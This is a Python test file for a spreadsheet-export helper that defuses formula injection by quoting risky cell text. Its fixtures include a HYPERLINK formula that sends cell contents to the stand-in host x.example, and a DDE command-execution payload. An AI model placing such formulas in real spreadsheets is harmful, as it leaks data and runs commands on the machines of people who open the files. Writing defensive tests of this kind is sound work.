"""Text written to spreadsheets is never run as a formula and never breaks the export."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from tenderflow.spreadsheet_cells import append_row, restore_cell, safe_cell

HYPERLINK = '=HYPERLINK("https://x.example/?"&B6,"Details")'


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
)
def test_text_that_could_start_a_formula_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, 3.25, Decimal("-1200.50"), date(2026, 6, 1), None, True])
def test_numbers_dates_and_blanks_are_kept_as_they_are(value: object) -> None:
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-5", "+44", "-12.5", "St Neots refuge", "A-B", ""])
def test_ordinary_text_and_text_that_is_just_a_number_are_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_control_characters_are_removed_but_tabs_and_line_breaks_kept() -> None:
    assert safe_cell("Fen\x0bland\x00 foyer\x1f") == "Fenland foyer"
    assert safe_cell("Line one\nLine two\tend") == "Line one\nLine two\tend"
    assert safe_cell("\x01=1") == "'=1"  # removing a control character cannot uncover a formula


def test_a_workbook_written_through_the_helper_holds_text_not_formulas() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, [HYPERLINK, "Ramsey\x0b flats", Decimal("250000.00"), -3])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = list(openpyxl.load_workbook(buffer).active.iter_rows(values_only=True))[0]  # type: ignore[union-attr]
    assert cells == ("'" + HYPERLINK, "Ramsey flats", 250000, -3)
    formulas = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert formulas is not None
    assert [c.data_type for c in formulas[1]] == ["s", "s", "n", "n"]


def test_reading_back_removes_only_the_quote_the_export_added() -> None:
    assert restore_cell("'" + HYPERLINK) == HYPERLINK
    assert restore_cell("'- see the method statement") == "- see the method statement"
    assert restore_cell("'quoted' text") == "'quoted' text"
    assert restore_cell(4.5) == 4.5
